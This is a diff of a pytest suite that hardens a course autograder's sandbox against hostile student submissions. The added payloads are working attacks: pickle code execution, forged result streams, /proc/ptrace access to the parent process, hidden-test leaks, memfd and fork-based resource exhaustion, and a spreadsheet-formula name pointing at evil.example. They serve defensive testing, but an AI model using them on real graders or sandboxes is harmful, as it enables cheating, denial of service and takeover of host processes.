@@ -31,17 +31,33 @@ from pathlib import Path
 import nbformat
 import pytest
 
-from labs.grade import _inside_repository, discover_labs, notebooks, sandbox, submission
-from labs.grade.report import NOT_ISOLATED, Result, feedback_page, write_atomic
+from labs.grade import _inside_repository, cpu_slots, discover_labs, notebooks, sandbox, submission
+from labs.grade.report import (
+    FEEDBACK_LIMIT,
+    FORMULA_START,
+    NOT_ISOLATED,
+    Result,
+    csv_cell,
+    feedback_page,
+    md_block,
+    md_code,
+    write_atomic,
+    write_reports,
+)
 from labs.grade.results import check_id, interleave, read_test_run
 from labs.release import build_release
 from tests.helpers import ROOT, junit_outcomes, run_cli
+
+# One grading run of some forty submissions serves the slow tests; on a busy 2-core machine it takes
+# a quarter of an hour: the first test to use it waits that long (its own timeout is 1800 s)
+pytestmark = pytest.mark.timeout(2400)
 
 TOKEN = f"labs-grade-{uuid.uuid4().hex[:12]}"
 MARK = f"PWNED-{TOKEN}"  # what a hostile submission writes wherever it can
 NOTEBOOK = "00_setup_and_collectives.ipynb"
 HIDDEN_SECRET = "subgroup_case"  # in the hidden tests only
 DEEP = 1500
+LINK_FLOOD = 19_000
 
 # ---- accidents
 # ------------------------------------------------------------------------------------------
@@ -52,8 +68,8 @@ RAISES = '\nraise RuntimeError("this module is broken on purpose")\n'
 DELETES_AND_DAEMON = f'''
 import pathlib, shutil, subprocess, sys
 _here = pathlib.Path(__file__).resolve().parents[1]
-if not (_here / ".spawned").exists():  # once per graded copy: a daemon in its own session
-    (_here / ".spawned").touch()
+if not pathlib.Path("/tmp/.spawned").exists():  # once per graded item: a daemon in its own session
+    pathlib.Path("/tmp/.spawned").touch()
     subprocess.Popen(
         [sys.executable, "-c", "import time; time.sleep(600)", "{TOKEN}"],
         start_new_session=True,
@@ -280,6 +296,251 @@ while True:
         _os.execv("/bin/sh", ["sh", "-c", "sleep 60", {token!r}])
     _n += 1
 """
+# ---- attacks (issue 29), each written from the issue's description
+# ----
+
+# 1a. a rank sends its parent an object whose unpickling runs code there: a pytest hook that marks
+# every test passed (sparing the grader's checks, found by name), so the log reads like an
+# honest run
+PICKLER = '''
+import os as _os, pickle as _pickle
+from labs.runtime import launcher as _launcher
+
+_CODE = """
+import gc, os, pytest
+_token = os.environ.get("LABS_GRADE_CHECK") or "no-token"
+class _Pass:
+    @pytest.hookimpl(hookwrapper=True)
+    def pytest_runtest_makereport(self, item, call):
+        outcome = yield
+        if not item.name.startswith(_token):
+            outcome.get_result().outcome = "passed"
+            outcome.get_result().longrepr = None
+for _o in gc.get_objects():
+    if type(_o).__name__ == "Config" and hasattr(_o, "pluginmanager"):
+        if not _o.pluginmanager.has_plugin("pickled"):
+            _o.pluginmanager.register(_Pass(), "pickled")
+"""
+
+
+class _Evil:
+    def __reduce__(self):
+        return (eval, ("exec(%r, {}) or ('progress', 0)" % _CODE,))
+
+
+if _launcher._parent_conn is not None:
+    _launcher._parent_conn.send_bytes(_pickle.dumps(_Evil()))
+'''
+# 1b. a forked rank takes the results descriptor and the check token from its environment, finds
+# pytest's items in its own memory, stops its parent, writes a complete "all passed" stream (the
+# checks failing, as they should) and kills pytest
+FD_FORGER = """
+import gc as _gc, json as _json, os as _os, signal as _signal
+
+
+def _forge():
+    fd = _os.environ.get("LABS_GRADE_FD")
+    token = _os.environ.get("LABS_GRADE_CHECK")
+    _say(f"ATTACK fd: LABS_GRADE_FD={fd} token={bool(token)}")
+    if fd is None or not token or _os.environ.get("RANK") != "0":
+        return
+    sessions = [o for o in _gc.get_objects() if type(o).__name__ == "Session"]
+    items = [i.nodeid for s in sessions for i in getattr(s, "items", [])]
+
+    def record(nodeid, when, outcome):
+        fields = {"nodeid": nodeid, "when": when, "outcome": outcome, "message": ""}
+        return _json.dumps({**fields, "duration": 0.1}) + "\\n"
+
+    lines = [record(items[0], "call", "passed"), record(items[0], "teardown", "passed")]
+    for nodeid in items[1:]:
+        check = nodeid.rsplit("::", 1)[-1].startswith(token)
+        lines += [record(nodeid, "setup", "passed")]
+        lines += [record(nodeid, "call", "failed" if check else "passed")]
+        lines += [record(nodeid, "teardown", "passed")]
+    parent = _os.getppid()
+    _os.kill(parent, _signal.SIGSTOP)
+    try:
+        _os.write(int(fd), "".join(lines).encode())
+        _say("ATTACK fd: WROTE the stream")
+    except OSError as e:
+        _say(f"ATTACK fd: blocked {e.errno}")
+    _os.kill(parent, _signal.SIGKILL)
+    _os._exit(0)
+
+
+_forge()
+"""
+# 1c. without a ptrace restriction, a rank reaches its parent through /proc/<ppid>/fd,
+# /proc/<ppid>/mem or ptrace itself; through the first it writes the same forged stream
+PROC_PARENT = """
+import ctypes as _ctypes, gc as _gc, json as _json, os as _os, signal as _signal
+
+
+def _reach_parent():
+    parent = _os.getppid()
+    reached = []
+    try:
+        fds = _os.listdir(f"/proc/{parent}/fd")  # the numbers only: each one is opened below
+    except OSError as e:
+        fds = []
+    opened = 0
+    for fd in fds:
+        try:
+            _os.close(_os.open(f"/proc/{parent}/fd/{fd}", _os.O_RDONLY))
+            opened += 1
+        except OSError:
+            pass
+    if opened:
+        reached.append("fd")
+    else:
+        _say(f"ATTACK proc: /proc/ppid/fd refused ({len(fds)} listed, none opened)")
+    try:
+        with open(f"/proc/{parent}/maps") as f:
+            start = int(f.readline().split("-")[0], 16)
+        with open(f"/proc/{parent}/mem", "rb") as f:
+            f.seek(start)
+            f.read(16)
+        reached.append("mem")
+    except (OSError, ValueError) as e:
+        _say(f"ATTACK proc: /proc/ppid/mem refused {getattr(e, 'errno', e)}")
+    libc = _ctypes.CDLL(None, use_errno=True)
+    if libc.ptrace(16, parent, 0, 0) == 0:  # PTRACE_ATTACH
+        reached.append("ptrace")
+        libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH
+    else:
+        _say(f"ATTACK proc: ptrace refused {_ctypes.get_errno()}")
+    _say(f"ATTACK proc: reached {reached}")
+    if _os.environ.get("RANK") != "0" or not fds:
+        return
+    token = None
+    try:
+        env = open(f"/proc/{parent}/environ", "rb").read().split(b"\\0")
+        token = [e.split(b"=", 1)[1].decode() for e in env if e.startswith(b"LABS_GRADE_CHECK=")][0]
+    except (OSError, IndexError):
+        return
+    sessions = [o for o in _gc.get_objects() if type(o).__name__ == "Session"]
+    items = [i.nodeid for s in sessions for i in getattr(s, "items", [])]
+
+    def record(nodeid, when, outcome):
+        fields = {"nodeid": nodeid, "when": when, "outcome": outcome, "message": ""}
+        return _json.dumps({**fields, "duration": 0.1}) + "\\n"
+
+    lines = [record(items[0], "call", "passed"), record(items[0], "teardown", "passed")]
+    for nodeid in items[1:]:
+        check = nodeid.rsplit("::", 1)[-1].startswith(token)
+        lines += [record(nodeid, "setup", "passed")]
+        lines += [record(nodeid, "call", "failed" if check else "passed")]
+        lines += [record(nodeid, "teardown", "passed")]
+    _os.kill(parent, _signal.SIGSTOP)
+    for fd in fds:  # the results channel is the pipe pytest writes JSON lines to
+        try:
+            target = _os.readlink(f"/proc/{parent}/fd/{fd}")
+            if target.startswith("pipe:") and int(fd) > 2:
+                with open(f"/proc/{parent}/fd/{fd}", "w") as f:
+                    f.write("".join(lines))
+                _say(f"ATTACK proc: WROTE through /proc/ppid/fd/{fd}")
+        except OSError:
+            pass
+    _os.kill(parent, _signal.SIGKILL)
+    _os._exit(0)
+
+
+_reach_parent()
+"""
+# 2a. in the hidden run only, a line on the results channel whose outcome carries the hidden
+# tests' text
+HIDDEN_OUTCOME = """
+import glob as _glob, json as _json, os as _os
+
+if _glob.glob("/tmp/course/hidden_tests/test_*.py") and _os.environ.get("RANK") == "0":
+    _secret = "".join(open(p).read() for p in sorted(_glob.glob("/tmp/course/hidden_tests/t*.py")))
+    _start = _secret.find("def ")
+    _leak = "LEAK-" + _secret[_start + 4 : _start + 40].replace("\\n", " ")
+    _record = {"nodeid": "x", "when": "setup", "outcome": _leak, "message": "", "duration": 0.0}
+    try:
+        _os.write(int(_os.environ["LABS_GRADE_FD"]), (_json.dumps(_record) + "\\n").encode())
+        _say("ATTACK outcome written")
+    except (KeyError, OSError, ValueError) as _e:
+        _say(f"ATTACK outcome blocked {_e!r}")
+"""
+# 2b. in the hidden run only, leave a number of processes behind: the count leaves the run
+HIDDEN_LEFTOVER = """
+import glob as _glob, os as _os, subprocess as _sp, sys as _sys
+
+if _glob.glob("/tmp/course/hidden_tests/test_*.py") and not _os.path.exists("/tmp/left"):
+    open("/tmp/left", "w").close()
+    for _ in range(7):
+        _sp.Popen([_sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True,
+                  stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
+"""
+# 3. a failure message holding a lone surrogate
+SURROGATE = """
+
+def ring_all_reduce(tensor, group=None):
+    raise AssertionError("a lone surrogate: \\udcff, and more")
+"""
+# 4a. memory the resident sizes do not show: memfd files (each under the file-size limit), filled
+# to 3 GiB and held
+MEMFD = """
+import os as _os, time as _time
+
+if not _os.path.exists("/tmp/memfd"):
+    open("/tmp/memfd", "w").close()
+    _fds = []
+    try:
+        while len(_fds) * 16 < 3072:
+            _fds.append(_os.memfd_create("held"))
+            _os.write(_fds[-1], b"m" * (16 << 20))
+            _say(f"ATTACK memfd held {len(_fds) * 16} MiB")
+    except OSError as _e:
+        _say(f"ATTACK memfd stopped: {_e}")
+    _time.sleep(20)
+"""
+# 4b. 30 busy processes for as long as the sandbox lets them live (graded beside the reference)
+SPINNER = """
+import os as _os, time as _time
+
+if not _os.path.exists("/tmp/spinning"):
+    open("/tmp/spinning", "w").close()
+    for _ in range(30):
+        if _os.fork() == 0:
+            _os.setsid()
+            while True:
+                pass
+_time.sleep(600)
+"""
+# 7. torch's own collective in place of the ring
+TORCH_COLLECTIVE = """
+
+def ring_all_reduce(tensor, group=None):
+    dist.all_reduce(tensor, group=group)
+    return tensor
+"""
+# where an attack can print: every pipe it holds (the item's log is one of them) but the results
+# channel, which a line of text would spoil
+SAY = """
+import os as _os
+
+
+def _say(text):
+    results = _os.environ.get("LABS_GRADE_FD", "-1")
+    for fd in range(3, 64):
+        try:
+            if fd != int(results) and _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
+                _os.write(fd, (text + "\\n").encode())
+        except OSError:
+            pass
+"""
+# Cells for notebooks (issue 29): outputs grown in place, and released cells replaced by `pass`
+DISPLAY_UPDATES = """for i in range(15):
+    handle = display("small", display_id=True)
+    handle.update("u" * (1 << 20))
+"""
+# a file name holding Markdown: a fake scorecard and an opened HTML comment
+MARKDOWN_NAME = "x`\n\n| fake | 17 of 17, yes | 0 |\n\n# Scorecard\n<!--"
+CSV_NAME = '=HYPERLINK("evil.example","full marks")'
+
+
 # Cells put first in the student's notebook
 KILL_RUNNER = """import os, signal
 runner = os.getppid()
@@ -319,6 +580,21 @@ def _modules(paths: dict) -> dict[str, str | None]:
         "runner_killer": "",
         "all_raises": "",
         "deep": "",
+        # issue 29
+        "pickler": PICKLER,
+        "fd_forger": SAY + FD_FORGER,
+        "proc_parent": SAY + PROC_PARENT,
+        "hidden_outcome": SAY + HIDDEN_OUTCOME,
+        "hidden_leftover": HIDDEN_LEFTOVER,
+        "zz_surrogate": SURROGATE,  # last: on a grader it crashes, every other row is written
+        "memfd": SAY + MEMFD,
+        "torch_collective": TORCH_COLLECTIVE,
+        "notebook_bomb": "",
+        "display_updates": "",
+        "cells_replaced": "",
+        "markdown_name": "",
+        CSV_NAME: "",
+        "link_flood": "",
     }
 
 
@@ -355,7 +631,8 @@ def make_submissions(root: Path, paths: dict) -> Path:
     for student in ("missing_notebook", "sys_exit", "import_error", "edits_tests"):
         (subs / student / "notebooks" / NOTEBOOK).unlink()  # their tests are what matters
     (subs / "deletes_and_daemon" / "notebooks" / NOTEBOOK).unlink()
-    with_notebook = {"runner_killer", "all_raises", "output_bomb"}
+    with_notebook = {"runner_killer", "all_raises", "output_bomb", "display_updates"}
+    with_notebook |= {"notebook_bomb", "cells_replaced"}
     for student, attack in _modules(paths).items():
         shutil.copytree(release, subs / student)
         (subs / student / "labs" / "collectives.py").write_text(stub + attack)
@@ -364,6 +641,15 @@ def make_submissions(root: Path, paths: dict) -> Path:
     _edit_notebook(subs / "runner_killer", first_cell=KILL_RUNNER)
     _edit_notebook(subs / "output_bomb", first_cell=PRINT_100_MB)
     _edit_notebook(subs / "all_raises", tag_all=True)
+    _edit_notebook(subs / "display_updates", first_cell=DISPLAY_UPDATES)
+    _edit_notebook(subs / "cells_replaced", replace_code="pass")
+    _notebook_of_empty_cells(subs / "notebook_bomb" / "notebooks" / NOTEBOOK)
+    (subs / "markdown_name" / MARKDOWN_NAME).symlink_to("../correct/labs/collectives.py")
+    flood = subs / "link_flood" / "flood"
+    flood.mkdir()
+    deep_target = "../../correct/" + "d/" * 2000
+    for i in range(LINK_FLOOD):
+        (flood / f"l{i:05d}").symlink_to(deep_target)
     deep = subs / "deep" / "deep"
     deep.mkdir()
     fd = os.open(deep, os.O_RDONLY)
@@ -385,15 +671,31 @@ def make_submissions(root: Path, paths: dict) -> Path:
     return subs
 
 
-def _edit_notebook(folder: Path, first_cell: str | None = None, tag_all: bool = False) -> None:
+def _edit_notebook(
+    folder: Path, first_cell: str | None = None, tag_all: bool = False, replace_code=None
+) -> None:
     path = folder / "notebooks" / NOTEBOOK
     nb = nbformat.read(path, as_version=4)
-    if first_cell:
-        nb.cells.insert(0, nbformat.v4.new_code_cell(first_cell))
     for cell in nb.cells:
         if tag_all and cell.cell_type == "code":
             cell.metadata["tags"] = ["raises-exception"]
+        if replace_code is not None and cell.cell_type == "code":
+            cell.source = replace_code  # the cell keeps its id: it is the course's cell, emptied
+    if first_cell:
+        nb.cells.insert(0, nbformat.v4.new_code_cell(first_cell))
     nbformat.write(nb, path)
+
+
+def _notebook_of_empty_cells(path: Path, size: int = 19 << 20) -> None:
+    """A notebook of ``size`` bytes, nothing but empty code cells (under the 20 MiB a submission's
+    file may have)."""
+    nb = json.loads(path.read_text())
+    cell = '{"cell_type": "code", "execution_count": null, "id": "c%07d", "metadata": {}, '
+    cell += '"outputs": [], "source": ""}'
+    n = size // len(cell % 0)
+    head = json.dumps({k: v for k, v in nb.items() if k != "cells"})[:-1]
+    cells = ",".join(cell % i for i in range(n))
+    path.write_text(head + ', "cells": [' + cells + "]}")
 
 
 def _walk(folder: Path):
@@ -546,23 +848,24 @@ def graded(tmp_path_factory):
         "tmux": tmux_sessions(socket) if tmux else [],
     }
     t0 = time.perf_counter()
-    proc = run_cli(
-        "-m",
-        "labs.grade",
-        str(subs),
-        "--out",
-        str(report),
-        *GRADER_OPTIONS,
-        env={"TMPDIR": str(tmp), **(tmux or {})},
-        timeout=1800,
-    )
+    try:
+        proc = run_cli(
+            "-m",
+            "labs.grade",
+            str(subs),
+            "--out",
+            str(report),
+            *GRADER_OPTIONS,
+            env={"TMPDIR": str(tmp), **(tmux or {})},
+            timeout=1800,
+        )
+    except BaseException:  # a timeout: the deep folders would defeat pytest's own clean-up
+        _remove_deep(subs / "deep" / "deep")
+        raise
     seconds = time.perf_counter() - t0
     after_exit = snapshot(report)
     time.sleep(3)  # anything that escaped would write now
-    rows = {}
-    if (report / "scores.csv").is_file():
-        with open(report / "scores.csv", encoding="utf-8") as f:
-            rows = {row["student"]: row for row in csv.DictReader(f)}
+    rows = read_rows(report / "scores.csv")
     yield {
         "proc": proc,
         "seconds": seconds,
@@ -587,6 +890,23 @@ def graded(tmp_path_factory):
     if tmux:
         subprocess.run(["tmux", "-S", str(socket), "kill-server"], timeout=30)
     _remove_deep(subs / "deep" / "deep")
+
+
+def read_rows(path: Path) -> dict[str, dict]:
+    """scores.csv's rows by student, the name as it is (a cell the grader kept from reading as a
+    formula, ``'=...``, without its ``'``)."""
+    if not path.is_file():
+        return {}
+    with open(path, encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    unquote = {f"'{start}" for start in FORMULA_START}
+    return {r["student"][1:] if r["student"][:2] in unquote else r["student"]: r for r in rows}
+
+
+def markdown_blocks(text: str) -> list:
+    """The block tokens of ``text`` as CommonMark (with GitHub's tables) parses it."""
+    markdown_it = pytest.importorskip("markdown_it")
+    return markdown_it.MarkdownIt("commonmark").enable("table").parse(text)
 
 
 def feedback(graded, student) -> str:
@@ -693,8 +1013,8 @@ def test_edited_tests_config_and_runtime_are_ignored(graded):
 
 @pytest.mark.slow
 def test_deleting_files_and_leaving_a_daemon_is_contained(graded):
-    """Deleting files in its graded copy and leaving a daemon: the daemon is killed, others
-    unaffected."""
+    """Deleting files of the course it is graded in (a test run's course is read-only: nothing
+    goes) and leaving a daemon: the daemon is killed, others unaffected."""
     assert graded["left"] == [], "a process the submission started outlived grading"
     assert scores_json(graded)["deletes_and_daemon"]["leftover_processes"] >= 1
     row = graded["rows"]["deletes_and_daemon"]
@@ -752,15 +1072,17 @@ class TestHostileSubmissions:
         assert graded["left"] == [], "processes outlived grading"
 
     def test_forging_the_results_channel_and_killing_its_session(self, graded):
+        """Its lines reach every descriptor it has, the log among them, never the results
+        channel (not inherited): the run's results stand, all failed."""
         row = self.row(graded, "- forger")
-        assert "results were thrown away" in row["grading_error"], row
+        assert not row["grading_error"], row
         assert "ATTACK forge" in item_log(graded, "- forger")
 
-    def test_a_pytest_hook_and_patched_comparisons_are_caught_by_the_checks(self, graded):
+    def test_a_pytest_hook_and_patched_comparisons_stay_in_the_rank(self, graded):
+        """The rank's pytest and torch are copies: the test process judges with its own."""
         row = self.row(graded, "hook_forger")
         assert "ATTACK hook registered" in item_log(graded, "hook_forger")
-        assert "hidden tests' results were thrown away" in row["grading_error"], row
-        assert "the grader's check" in row["grading_error"], row
+        assert not row["grading_error"], row
 
     def test_reading_the_answers_through_proc_or_the_editable_install(self, graded):
         self.row(graded, "lecteur réponses ü")
@@ -775,7 +1097,7 @@ class TestHostileSubmissions:
             assert "points outside your folder" in text
         else:
             summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
-            assert "`labs` of labs_to_classmate is a symlink into correct's folder" in summary
+            assert "`labs` of `labs_to_classmate` is a symlink into `correct`'s folder" in summary
 
     def test_hidden_tests_do_not_leak_through_failure_messages(self, graded):
         self.row(graded, "leaker")
@@ -814,9 +1136,11 @@ class TestHostileSubmissions:
         if graded["tmux"]:
             assert graded["after"]["tmux"] == graded["before"]["tmux"] == ["grading"]
 
-    def test_a_malformed_results_line(self, graded):
+    def test_a_malformed_results_line_cannot_even_be_written(self, graded):
         row = self.row(graded, "malformed-\ufffd")
-        assert "is not a test report" in row["grading_error"], row
+        assert not row["grading_error"], row
+        text = feedback(graded, os.fsdecode(b"malformed-\xff"))
+        assert "raised KeyError" in text and "'LABS_GRADE_FD'" in text, "the variable is not there"
         assert (graded["report"] / os.fsdecode(b"malformed-\xff") / "feedback.md").exists()
 
     def test_a_notebook_that_kills_its_runner(self, graded):
@@ -864,12 +1188,180 @@ class TestHostileSubmissions:
         assert printed and float(printed.group(1)) >= 30, text
         assert "**limit hit**: notebook output" in text
 
+    # ---- issue 29: each attack as the issue describes it
+
+    def public_passed(self, graded, student) -> int:
+        row = graded["rows"][student]
+        return int(row["tests_passed"]) - int(row["hidden_passed"])
+
+    def test_a_rank_pickling_code_for_its_parent_gains_nothing(self, graded):
+        """The bytes are refused where they arrive (``eval`` is no data): its test fails."""
+        row = self.row(graded, "pickler")
+        assert not row["grading_error"], row
+        assert "eval" in feedback(graded, "pickler")
+
+    def test_a_rank_cannot_use_the_results_descriptor_or_the_check_token(self, graded):
+        self.row(graded, "fd_forger")
+        assert "ATTACK fd: LABS_GRADE_FD=None token=False" in item_log(graded, "fd_forger")
+
+    def test_a_rank_cannot_reach_its_parents_descriptors_memory_or_ptrace(self, graded):
+        self.row(graded, "proc_parent")
+        log = item_log(graded, "proc_parent")
+        assert "ATTACK proc: reached []" in log, log[-3000:]
+        for what in ("/proc/ppid/fd", "/proc/ppid/mem", "ptrace"):
+            assert f"ATTACK proc: {what} refused" in log, what
+
+    def test_a_concealed_hidden_run_quotes_nothing_it_wrote(self, graded):
+        self.row(graded, "hidden_outcome")
+        for path, text in report_texts(graded):
+            assert "LEAK-" not in text, path
+
+    def test_a_concealed_hidden_run_does_not_say_how_many_processes_it_left(self, graded):
+        self.row(graded, "hidden_leftover")
+        assert scores_json(graded)["hidden_leftover"]["leftover_processes"] == 0
+        assert "process(es)" not in feedback(graded, "hidden_leftover")
+
+    def test_a_lone_surrogate_in_a_message_is_written_escaped(self, graded):
+        proc = graded["proc"]
+        assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
+        self.row(graded, "zz_surrogate")
+        assert "a lone surrogate: \ufffd, and more" in feedback(graded, "zz_surrogate")
+
+    def test_memory_held_in_a_memfd_counts_against_the_limit(self, graded):
+        self.row(graded, "memfd")
+        held = [
+            int(n) for n in re.findall(r"ATTACK memfd held (\d+) MiB", item_log(graded, "memfd"))
+        ]
+        assert held and max(held) < 1536, f"held {max(held, default=0)} MiB under a 1.5 GiB limit"
+        assert "**limit hit**: memory" in feedback(graded, "memfd")
+
+    def test_calling_torchs_collective_scores_no_public_check(self, graded):
+        assert self.public_passed(graded, "torch_collective") == 0, graded["rows"][
+            "torch_collective"
+        ]
+
+    def test_a_notebook_of_empty_cells_costs_the_grader_little(self, graded):
+        """The grader's own time for this student, outside its sandboxed items, is no more than
+        for the others (give or take 10 s of a busy machine): a limited child refuses the notebook
+        before anything runs. (The grader that parsed it itself spent 155 s more.)"""
+        row = self.row(graded, "notebook_bomb")
+        assert row["notebook_executed"] == "no" and "more than the 2000" in row["notebook_detail"]
+        done = dict(re.findall(r"^(.+): done in ([0-9.]+) s$", graded["proc"].stdout, re.M))
+        rows = scores_json(graded)
+        outside = {
+            s: float(t) - rows[s]["tests_time_s"] - rows[s]["notebook_time_s"]
+            for s, t in done.items()
+            if s in rows
+        }
+        others = sorted(t for s, t in outside.items() if s != "notebook_bomb")
+        typical = others[len(others) // 2]
+        assert outside["notebook_bomb"] < typical + 10, (outside["notebook_bomb"], typical)
+
+    def test_outputs_updated_in_place_count_against_the_output_cap(self, graded):
+        self.row(graded, "display_updates")
+        executed = graded["report"] / "display_updates" / "notebooks" / NOTEBOOK
+        assert executed.stat().st_size < 3_000_000
+        assert "**limit hit**: notebook output" in feedback(graded, "display_updates")
+
+    def test_a_file_name_holding_markdown_stays_one_inline_name(self, graded):
+        """Parsed as CommonMark with tables: no HTML, one heading, one table row per student."""
+        self.row(graded, "markdown_name")
+        for name in ("summary.md", "markdown_name/feedback.md"):
+            text = (graded["report"] / name).read_text(encoding="utf-8")
+            tokens = markdown_blocks(text)
+            assert not [t for t in tokens if t.type.startswith("html")], name
+            assert [t.tag for t in tokens if t.type == "heading_open"].count("h1") == 1, name
+            inline = " ".join(t.content for t in tokens if t.type == "inline")
+            assert "fake" in inline, f"{name}: the name is not shown"
+        summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
+        rows = [t for t in markdown_blocks(summary) if t.type == "tr_open"]
+        assert len(rows) == 1 + len(graded["rows"]), "a table row more or less than students"
+        assert "is a symlink into `correct`'s folder" in summary
+
+    def test_no_scores_csv_cell_starts_a_formula(self, graded):
+        with open(graded["report"] / "scores.csv", encoding="utf-8", newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-"]
+        assert formulas == []  # (a lone "-", no notebook, is no formula)
+        self.row(graded, CSV_NAME)
+        assert "'" + CSV_NAME in cells and "'- forger" in cells
+
+    def test_a_flood_of_symlinks_stays_within_the_reports_budget(self, graded):
+        self.row(graded, "link_flood")
+        report = graded["report"]
+        for path in ("link_flood/feedback.md", "summary.md", "scores.json", "scores.csv"):
+            assert (report / path).stat().st_size < 1_000_000, path
+        assert "more symlinks" in feedback(graded, "link_flood")
+
+    def test_released_cells_replaced_by_pass_count_as_not_run(self, graded):
+        row = self.row(graded, "cells_replaced")
+        assert row["notebook_executed"] == "no", row
+        summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
+        line = next(x for x in summary.splitlines() if "cells" in x and "replaced" in x)
+        assert " yes" not in line, line
+        assert "changed" in feedback(graded, "cells_replaced")
+
     def test_identical_and_hard_linked_exercise_files_are_flagged(self, graded):
         self.row(graded, "copycat")
         summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
-        assert "`labs/collectives.py` is identical in: - forger, copycat" in summary
-        assert "`labs/collectives.py` is one file hard-linked in: - forger, copycat" in summary
+        assert "`labs/collectives.py` is identical in: `- forger`, `copycat`" in summary
+        assert "`labs/collectives.py` is one file hard-linked in: `- forger`, `copycat`" in summary
         assert "`labs/collectives.py` is identical to the reference solution in:" in summary
+
+
+# ---- one student spinning the CPU beside the reference: --jobs 2 on this machine's cores
+# ----
+
+INTERFERENCE_OPTIONS = [
+    "--labs",
+    "collectives",
+    "--jobs",
+    "2",
+    "--conceal-hidden",
+    "--test-timeout",
+    "30",
+    "--cell-timeout",
+    "60",
+    "--notebook-timeout",
+    "150",
+    "--lab-timeout",
+    "90",
+]
+
+
+@pytest.fixture(scope="module")
+def interference(tmp_path_factory):
+    if shutil.which("bwrap") is None:
+        pytest.skip("bubblewrap is not installed (apt-get install bubblewrap)")
+    root = tmp_path_factory.mktemp("interference")
+    release = root / "release"
+    build_release(release)
+    subs = root / "subs"
+    shutil.copytree(release, subs / "correct")
+    (subs / "correct" / "labs" / "collectives.py").write_bytes(
+        (ROOT / "solutions" / "collectives.py").read_bytes()
+    )
+    shutil.copytree(release, subs / "spinner")
+    stub = (release / "labs" / "collectives.py").read_text()
+    (subs / "spinner" / "labs" / "collectives.py").write_text(stub + SPINNER)
+    report = root / "report"
+    t0 = time.perf_counter()
+    proc = run_cli(
+        "-m", "labs.grade", str(subs), "--out", str(report), *INTERFERENCE_OPTIONS, timeout=1800
+    )
+    with open(report / "scores.csv", encoding="utf-8") as f:
+        rows = {row["student"]: row for row in csv.DictReader(f)}
+    return {"proc": proc, "rows": rows, "seconds": time.perf_counter() - t0}
+
+
+@pytest.mark.slow
+def test_a_student_spinning_30_processes_does_not_slow_the_one_beside_it(interference):
+    proc = interference["proc"]
+    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
+    row = interference["rows"]["correct"]
+    assert row["tests_passed"] == row["tests_total"], row
+    assert row["notebook_executed"] == "yes", row
+    assert interference["rows"]["spinner"]["tests_passed"] == "0"
 
 
 # ---- the pieces, without running submissions
@@ -948,6 +1440,89 @@ def test_feedback_groups_identical_failures_and_can_conceal_hidden_tests():
     assert "ValueError: bad" in page and "`pytest.ini`" in page and "0/3 checks passed" in page
 
 
+def test_every_string_a_submission_controls_is_escaped_for_its_format():
+    assert csv_cell('=HYPERLINK("x","y")') == '\'=HYPERLINK("x","y")'
+    assert [csv_cell(x) for x in ("+1", "-1", "@a", "\tx", "ok")] == [
+        "'+1",
+        "'-1",
+        "'@a",
+        "\\tx",
+        "ok",
+    ]
+    assert csv_cell("a\udcffb\nc") == "a\ufffdb\\nc"
+    name = "x`\n\n| fake |\n# Scorecard\n<!--"
+    tokens = markdown_blocks(
+        f"* {md_code(name)}\n\n| a |\n|---|\n| {md_code(name, table=True)} |\n"
+    )
+    assert [t.type for t in tokens if t.type.endswith("_open")] == [
+        "bullet_list_open", "list_item_open", "paragraph_open", "table_open", "thead_open",
+        "tr_open", "th_open", "tbody_open", "tr_open", "td_open",
+    ]  # fmt: skip
+    block = md_block("line\n```\n</pre><!--\n```` x")
+    assert block[0] == block[-1] == "`````" and markdown_blocks("\n".join(block))[0].type == "fence"
+
+
+def test_a_lone_surrogate_or_a_flood_cannot_stop_the_reports(tmp_path):
+    r = Result("ann\udcff", "collectives", "00.ipynb", failures=[["tests/t.py::a", "bad \udcff"]])
+    r.notes = ["x" * 1000] * 2000
+    page = feedback_page("ann\udcff", [r], [], {"graded_at": "now", "commit": "\udcff"})
+    assert len(page) <= FEEDBACK_LIMIT + 200 and "the grader cut this page" in page
+    write_atomic(tmp_path / "feedback.md", page)
+    write_reports(tmp_path, [r], {"graded_at": "now", "commit": None}, ["`a` \udcff"])
+    assert (
+        "bad \ufffd"
+        in json.loads((tmp_path / "scores.json").read_text())["results"][0]["failures"][0][1]
+    )
+    assert "ann\ufffd" in (tmp_path / "summary.md").read_text(encoding="utf-8")
+
+
+def test_the_guards_lines_are_read_apart_and_say_what_was_refused():
+    raw = _stream(GRADED, ["passed", "failed", "passed"])
+    guard = json.dumps({"guard": "import of `labs.ddp`", "during": GRADED[1]}).encode()
+    lines = raw.split(b"\n")
+    run = read_test_run(b"\n".join([lines[0], guard, *lines[1:]]), GRADED, "check_x", "not run")
+    assert run.problem is None and run.passed == [GRADED[0], GRADED[2]]
+    assert run.guarded == [f"import of `labs.ddp` (during {GRADED[1]})"]
+    bad = raw.replace(b'"outcome": "failed"', b'"outcome": "LEAK-subgroup_case"', 1)
+    run = read_test_run(bad, GRADED, "check_x", "not run")
+    assert "LEAK" not in run.problem and "has an outcome that is none of" in run.problem
+
+
+def test_the_cores_of_each_job():
+    assert cpu_slots(1, [0, 1]) == [{0, 1}]
+    assert cpu_slots(2, [0, 1]) == [{0}, {1}]
+    assert cpu_slots(2, [0, 1, 2, 3, 4]) == [{0, 1, 2}, {3, 4}]
+    assert cpu_slots(3, [0, 1]) == [{0}, {1}, {0}]  # more jobs than cores: shared (warned)
+
+
+@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")
+def test_the_seccomp_filter_refuses_what_it_says(tmp_path):
+    program = sandbox.seccomp_filter(("sched_setaffinity", "memfd_create", "shmget"))
+    if program is None:
+        pytest.skip("no seccomp program for this architecture")
+    read_end, write_end = os.pipe()
+    os.write(write_end, program)
+    os.close(write_end)
+    code = (
+        "import ctypes, os\n"
